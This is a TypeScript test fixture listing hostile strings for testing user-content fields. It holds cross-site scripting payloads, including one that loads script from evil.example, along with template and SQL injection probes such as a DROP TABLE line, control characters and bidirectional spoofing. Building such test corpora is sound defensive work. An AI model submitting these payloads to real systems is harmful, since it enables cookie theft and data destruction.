/**
 * Hostile and awkward text for tests of user content (community, reviews, chat, support, blog
 * comments): script and markup injection, dangerous links, template and SQL injection, control
 * and bidirectional characters, Devanagari with joiners, long text. Each string is at most 1000
 * characters and non-blank once cleaned, so it fits any free-text field of 1000 characters. A
 * product that stores text as text and renders it with React shows every one of them literally.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert("xss")</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="document.body.dataset.pwned=1">',
  '"><svg onload=alert(document.domain)>',
  "'><script>window.__pwned=true</script>",
  '<a href="javascript:alert(1)">click me</a>',
  'javascript:alert(document.cookie)',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>body{display:none}</style>hidden?',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template-injection probe
  '${{7*7}} and #{7*7} and <%= 7*7 %>',
  "'; DROP TABLE users; --",
  "Robert'); DELETE FROM community_posts WHERE ('1'='1",
  '1 OR 1=1; SELECT * FROM sessions --',
  '" OR ""="',
  'admin\u0000<script>null byte</script>',
  'bell\u0007 escape\u001b[31m red \u007f delete',
  'Reversed \u202Egnp.exe\u202C text and \u2066isolate\u2069 here',
  'नमस्ते \u200Dक्\u200Dष ज्ञ श्र\u200C और ॐ शान्ति',
  'मुझे परीक्षा से डर लगता है <b>बहुत</b> & "ज़्यादा"',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<!-- comment --><![CDATA[<script>alert(1)</script>]]>',
  'line one\r\nline two\r\n\r\n\r\n\r\nline after many blanks\ttabbed',
  '😀👨‍👩‍👧 emoji family \uFEFF with BOM',
  `long ${'ॐ शान्ति <i>x</i> '.repeat(55)}`.slice(0, 990),
];
